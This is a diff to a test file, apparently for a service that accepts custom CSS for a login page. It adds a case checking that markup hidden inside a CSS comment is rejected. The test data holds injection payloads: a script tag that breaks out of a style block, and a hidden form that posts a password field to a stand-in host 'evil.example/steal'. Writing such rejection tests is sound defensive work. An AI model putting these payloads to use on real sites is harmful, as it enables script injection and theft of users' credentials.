@@ -100,6 +100,12 @@ for (const backend of BACKENDS) {
         set({ CSS: ".label-customizable { color: red; } </style><script>alert(1)</script>" }),
         "InvalidParameterException",
       );
+      // Markup hidden in a comment: the CSS goes into the page with its comments (security review).
+      await rejectsWith(
+        set({ CSS: ".logo-customizable{color:red}/*</style><form action=https://evil.example/steal method=post><input name=password></form><style>*/" }),
+        "InvalidParameterException",
+        "CSS must not contain at-rules, script or markup.",
+      );
       await rejectsWith(
         set({ ImageFile: new TextEncoder().encode("GIF89a not a png") }),
         "InvalidParameterException",
